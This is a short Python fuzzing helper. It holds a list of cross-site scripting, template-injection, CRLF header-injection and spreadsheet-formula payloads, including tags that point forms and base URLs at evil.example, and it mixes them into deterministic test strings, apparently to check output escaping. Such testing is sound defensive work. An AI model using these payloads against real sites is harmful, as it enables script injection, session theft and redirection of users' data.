"""Texts that break out of pages that are careless with them."""

import random

PIECES = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>", "\" onfocus=alert(1) autofocus x=\"", "' onmouseover='alert(1)",
    "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "</select><img src=x onerror=alert(1)>", "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "javascript:alert(1)", "<a href=javascript:alert(1)>x</a>", "<base href=//evil.example>", "<meta http-equiv=refresh content=0>",
    "<form action=//evil.example>", "<!--", "-->", "]]>", "<![CDATA[", "&lt;script&gt;", "&#60;img&#62;", "&quot;", "&#34;",
    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{7*7}", "<%= 7*7 %>", "`alert(1)`", "\\\" onload=alert(1)",
    "\"\u0301 onfocus=alert(1) autofocus x=\"", "<\u0301script>alert(1)</script>", "'\u200d onclick='alert(1)",
    "\ufeff<script>alert(1)</script>", "\u2028alert(1)", "\u202etxet", "\x00<script>", "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<math><mtext></p><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<details open ontoggle=alert(1)>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "=cmd|' /C calc'!A0",
    "';alert(1)//", "\"};alert(1);//", "<input autofocus onfocus=alert(1)>", "<template><script>alert(1)</script></template>",
    "\U0001F600\"><b>", "<b>bold</b>", "\r\nSet-Cookie: a=b", "\t\"\tonclick=alert(1)\t",
]


def texts(count, seed=7):
    """So many different texts, the same each time."""
    chance = random.Random(seed)
    found = dict.fromkeys(PIECES)
    while len(found) < count:
        text = "".join(chance.sample(PIECES, chance.randint(2, 4)))
        cut = chance.randint(0, len(text))
        found[text[:cut] + chance.choice(["", "\"", "'", "<", ">", "&", "\u0301", " "]) + text[cut:]] = None
    return list(found)[:count]
